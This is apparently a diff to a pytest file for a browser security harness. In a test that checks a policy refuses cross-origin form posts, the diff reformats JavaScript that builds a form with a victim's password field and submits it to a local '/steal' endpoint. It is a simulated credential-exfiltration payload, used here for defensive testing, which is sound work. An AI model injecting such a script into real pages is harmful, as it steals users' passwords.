@@ -11,7 +11,7 @@ from urllib.parse import quote
 import pytest
 import requests
 
-from browser import browser_factory, dashboard_factory, signed_in  # noqa: F401  (fixtures)
+from browser import signed_in
 from harness import Latchkey
 
 PAYLOADS = {
@@ -75,7 +75,8 @@ def test_the_policy_refuses_a_form_posting_to_another_origin(dashboard_factory, 
     b.js("""
         const f = document.createElement('form');
         f.method = 'post'; f.action = arguments[0];
-        const i = document.createElement('input'); i.name = 'password'; i.value = 'typed-by-the-victim'; f.appendChild(i);
+        const i = document.createElement('input');
+        i.name = 'password'; i.value = 'typed-by-the-victim'; f.appendChild(i);
         document.body.appendChild(f); f.submit();
     """, f"http://127.0.0.1:{sink.port}/steal")
     time.sleep(1.5)
